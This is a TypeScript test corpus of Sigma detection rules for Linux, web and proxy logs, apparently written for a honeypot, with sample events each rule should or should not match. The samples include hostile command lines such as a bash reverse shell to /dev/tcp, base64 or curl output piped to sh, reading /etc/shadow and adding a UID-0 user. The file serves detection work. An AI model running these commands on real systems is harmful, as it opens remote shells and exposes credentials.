/** Sigma rules in the style of public ones, in our own words, and what came of each: what it recognises and what not, or why it cannot be carried over. */
export interface CorpusRule {
  readonly name: string
  readonly logsource: string
  readonly detection: string
  readonly yes?: readonly (string | Readonly<Record<string, unknown>>)[]
  readonly no?: readonly (string | Readonly<Record<string, unknown>>)[]
  /** What is said of it: `line path message`. */
  readonly refused?: readonly RegExp[]
}

const LINUX = 'category: process_creation, product: linux'
const AUDIT = 'product: linux, service: auditd'
/** As ssh is given a command to run. */
const given = (command_text: string) => ({ command_text, mode: 'exec', service: 'ssh' })

export const corpus: readonly CorpusRule[] = [
  {
    name: 'decoded base64 goes into a shell',
    logsource: LINUX,
    detection: `
sel_code: { CommandLine|contains: 'base64 ' }
sel_shell:
  - CommandLine|contains: ['| sh ', '|sh ', '| bash ', '|bash ']
  - CommandLine|endswith: ['| sh', '|sh', '| bash', '|bash']
condition: all of sel_*`,
    yes: [given('echo aWQ= | base64 -d | sh'), given('echo aWQ=|base64 -d|bash -s x'), `bash -c 'echo aWQ= | base64 -d | sh'`],
    no: [given('base64 notes.txt'), 'base64 -d x', { command_text: 'CONFIG base64 | sh', mode: 'protocol', service: 'ftp' }],
  },
  {
    name: 'ssh starts a shell with a command that fetches',
    logsource: LINUX,
    detection: `
selection: { ParentImage|endswith: /sshd, Image|endswith: [/bash, /sh], CommandLine|contains|all: [' -c ', curl] }
condition: selection`,
    yes: [given('curl http://x'), given('cd /tmp; curl -O x')],
    no: ['curl http://x', given('wget http://x')],
  },
  {
    name: 'a shell given a command that begins with a folder',
    logsource: LINUX,
    detection: `selection: { CommandLine|startswith: ['bash -c cd /tmp', 'sh -c cd /tmp'] }\ncondition: selection`,
    yes: [given('cd /tmp; ls'), 'bash -c "cd /tmp; ls"'],
    no: ['cd /tmp; ls', given('ls; cd /tmp')],
  },
  {
    name: 'children of a shell',
    logsource: LINUX,
    detection: `selection: { ParentImage|endswith: [/bash, /dash, /sh], Image|endswith: /whoami }\ncondition: selection`,
    yes: ['whoami', given('whoami')],
    no: ['id'],
  },
  {
    name: 'a filter of parents that no decoy has changes nothing',
    logsource: LINUX,
    detection: `
selection: { Image|endswith: [/useradd, /adduser] }
filter_main_package: { ParentImage|endswith: [/apt, /dpkg, /yum] }
filter_optional_null: { CommandLine: null }
filter_optional_empty: { CommandLine: '' }
condition: selection and not 1 of filter_*`,
    yes: ['useradd -o -u 0 x'],
    no: ['userdel x'],
  },
  {
    name: 'null among other values',
    logsource: LINUX,
    detection: `selection: { Image|endswith: /crontab }\nfilter: { User: [null, '', nagios] }\ncondition: selection and not filter`,
    yes: [{ command_text: 'crontab -l', user: 'root' }],
    no: [{ command_text: 'crontab -l', user: 'nagios' }, 'crontab -l'],
  },
  {
    name: 'three lists of which each must have one',
    logsource: LINUX,
    detection: `
selection_img: { Image|endswith: [/curl, /wget] }
selection_where: { CommandLine|contains: [/tmp/, /dev/shm/, /var/tmp/] }
selection_what: { CommandLine|contains: [.sh, .elf, .py] }
selection_how: { CommandLine|contains: [http://, https://, ftp://] }
condition: all of selection_*`,
    yes: ['curl -o /tmp/a.sh http://x', 'wget ftp://x/y.elf -O /dev/shm/y'],
    no: ['curl http://x/a.sh', 'curl -o /tmp/a http://x', 'ls /tmp/a.sh http://'],
  },
  {
    name: 'a reverse shell by a pattern',
    logsource: LINUX,
    detection: `selection: { CommandLine|re: 'sh\\s+-i\\s.*/dev/tcp/[0-9.]+/[0-9]+' }\ncondition: selection`,
    yes: ['bash -i >& /dev/tcp/192.0.2.1/443 0>&1'],
    no: ['bash -i'],
  },
  {
    name: 'a pattern that begins with a blank',
    logsource: LINUX,
    detection: `selection: { CommandLine|re: '\\s(curl|wget)\\s.*\\|\\s*(ba)?sh' }\ncondition: selection`,
    yes: [given('curl x | sh'), given('cd /tmp && wget -O- x|bash')],
    no: ['curl x', given('acurl x | sh')],
  },
  {
    name: 'python opens a terminal, and the user is known',
    logsource: LINUX,
    detection: `
selection: { Image|contains: python, CommandLine|contains|all: [' -c ', pty, spawn] }
user: { User|startswith: www }
condition: selection and not user`,
    yes: [`python3 -c 'import pty; pty.spawn("/bin/sh")'`],
    no: [{ command_text: `python3 -c 'import pty; pty.spawn("/bin/sh")'`, user: 'www-data' }],
  },
  {
    name: 'commands that a web server starts',
    logsource: LINUX,
    detection: `selection: { ParentImage|endswith: [/httpd, /nginx, /apache2], Image|endswith: /whoami }\ncondition: selection`,
    refused: [/^8 detection\.selection\.ParentImage\|endswith ParentImage: the parent of what is typed is a shell/u],
  },
  {
    name: 'what sudo started',
    logsource: LINUX,
    detection: `selection: { Image|endswith: /id }\nfilter:\n  ParentImage|endswith: /sudo\ncondition: selection and not filter`,
    refused: [/^10 detection\.filter\.ParentImage\|endswith which processes \/sudo started/u],
  },
  {
    name: 'a hash of a program',
    logsource: LINUX,
    detection: `selection:\n  Image|endswith: /x\n  Hashes|contains: SHA256=00\ncondition: selection`,
    refused: [/^10 detection\.selection\.Hashes\|contains Hashes is not seen on a decoy: no program is run/u],
  },
  {
    name: 'audit: words of a program that ssh was given',
    logsource: AUDIT,
    detection: `selection: { type: EXECVE, a0|endswith: bash, a1: '-c', a2|contains: '/etc/shadow' }\ncondition: selection`,
    yes: [given('cat /etc/shadow')],
    no: ['cat /etc/shadow', given('ls')],
  },
  {
    name: 'audit: a system call that starts a program',
    logsource: AUDIT,
    detection: `selection: { type: SYSCALL, syscall: [execve, 59], exe|endswith: [/insmod, /modprobe] }\ncondition: selection`,
    yes: ['insmod x.ko', 'sudo /sbin/insmod x.ko'],
    no: ['lsmod'],
  },
  {
    name: 'audit: a file that is opened',
    logsource: AUDIT,
    detection: `selection:\n  type: PATH\n  name: /etc/passwd\ncondition: selection`,
    refused: [
      /^9 detection\.selection\.type type: of audit records/u,
      /^10 detection\.selection\.name name is not seen on a decoy: files/u,
    ],
  },
  {
    name: 'logins from a network',
    logsource: 'product: linux, service: sshd',
    detection: `selection: { User: [root, null], SourceIp|cidr: [192.0.2.0/24, '2001:db8::/32'], outcome: failure }\ncondition: selection`,
    yes: [
      { username: 'root', success: false, attacker_ip: '192.0.2.8' },
      { success: false, attacker_ip: '2001:db8::9' },
    ],
    no: [
      { username: 'root', success: false, attacker_ip: '198.51.100.8' },
      { username: 'ada', success: false, attacker_ip: '192.0.2.8' },
    ],
  },
  {
    name: 'lines of a daemon',
    logsource: 'product: linux, service: auth',
    detection: `keywords:\n  - 'Accepted publickey for root'\ncondition: keywords`,
    refused: [/^8 detection\.keywords are keywords, and of a auth_attempt no line of a log is kept/u],
  },
  {
    name: 'connections to odd ports outside',
    logsource: 'category: network_connection, product: linux',
    detection: `
selection: { Initiated: 'true', Image|endswith: [/bash, /nc], DestinationPort: [4444, 9001] }
filter_local: { DestinationIp|cidr: [127.0.0.0/8, 10.0.0.0/8, 172.16.0.0/12, '::1/128', 'fe80::/10', 'fc00::/7'] }
condition: selection and not 1 of filter_*`,
    yes: [
      { target: 'tcp://192.0.2.1:4444', tool: 'nc' },
      { target: 'tcp://192.0.2.1:9001', tool: '/dev/tcp' },
      { target: 'tcp://172.32.0.1:4444', tool: 'nc' },
    ],
    no: [
      { target: 'tcp://192.0.2.1:4444', tool: 'telnet' },
      { target: 'tcp://172.31.255.1:4444', tool: 'nc' },
      { target: 'tcp://10.1.2.3:4444', tool: 'nc' },
      { target: 'tcp://[fe90::1]:4444', tool: 'nc' },
      { target: 'tcp://192.0.2.1:14444', tool: 'nc' },
    ],
  },
  {
    name: 'connections from somewhere',
    logsource: 'category: network_connection, product: linux',
    detection: `selection:\n  SourceIp: 192.0.2.1\n  DestinationPort: 22\ncondition: selection`,
    refused: [/^9 detection\.selection\.SourceIp SourceIp is not seen on a decoy: the source of such a connection is the decky/u],
  },
  {
    name: 'requests of a scanner with a referrer',
    logsource: 'category: webserver',
    detection: `
selection: { cs-method: GET, cs-uri-stem|endswith: ['/.env', '/.git/config'], cs-referer: null }
agent: { cs-user-agent|contains: [zgrab, masscan] }
filter: { sc-status: [404, 403] }
condition: selection and agent and not filter`,
    yes: [{ method: 'GET', raw_url: '/app/.env', user_agent: 'zgrab/0.x', status: 200 }],
    no: [
      { method: 'GET', raw_url: '/app/.env', user_agent: 'zgrab/0.x', status: 404 },
      { method: 'GET', raw_url: '/app/.env', user_agent: 'zgrab/0.x', status: 200, headers: ['Referer: http://y/'] },
    ],
  },
  {
    name: 'a header by a pattern, and a kind of file',
    logsource: 'category: webserver',
    detection: `selection: { cs(Cookie)|re: 'rememberMe=[A-Za-z0-9+/]{8,}', c-uri-extension: [jsp, do] }\ncondition: selection`,
    yes: [{ raw_url: '/a/login.do?x=1', headers: ['Cookie: a=b; rememberMe=QUJDREVGR0g='] }],
    no: [
      { raw_url: '/a/login.do', headers: ['X: rememberMe=QUJDREVGR0g='] },
      { raw_url: '/login', headers: ['Cookie: rememberMe=QUJDREVGR0g='] },
    ],
  },
  {
    name: 'what is fetched from a host of that kind',
    logsource: 'category: proxy',
    detection: `selection: { r-dns|endswith: [.ngrok.io, .duckdns.org], c-uri-extension: [sh, elf], c-uri-stem|contains: /x/ }\ncondition: selection`,
    yes: [{ url: 'http://a.duckdns.org:8080/x/y.sh?z' }, { url: 'http://u:p@b.ngrok.io/x/y.elf' }],
    no: [{ url: 'http://example.org/x/.duckdns.org/y.sh' }, { url: 'http://a.duckdns.org/y.sh' }],
  },
  {
    name: 'an agent that fetches',
    logsource: 'category: proxy',
    detection: `selection:\n  c-useragent|startswith: curl/\ncondition: selection`,
    refused: [/^9 detection\.selection\.c-useragent\|startswith c-useragent is not seen on a decoy: nothing is fetched/u],
  },
  {
    name: 'a file that is left for the scheduler',
    logsource: 'category: file_event, product: linux',
    detection: `selection: { TargetFilename|startswith: [/etc/cron.d/, /var/spool/cron/] }\nfilter: { TargetFilename|endswith: .placeholder }\ncondition: selection and not filter`,
    yes: [{ path: '/etc/cron.d/x' }],
    no: [{ path: '/etc/cron.d/.placeholder' }, { path: '/tmp/x' }],
  },
]
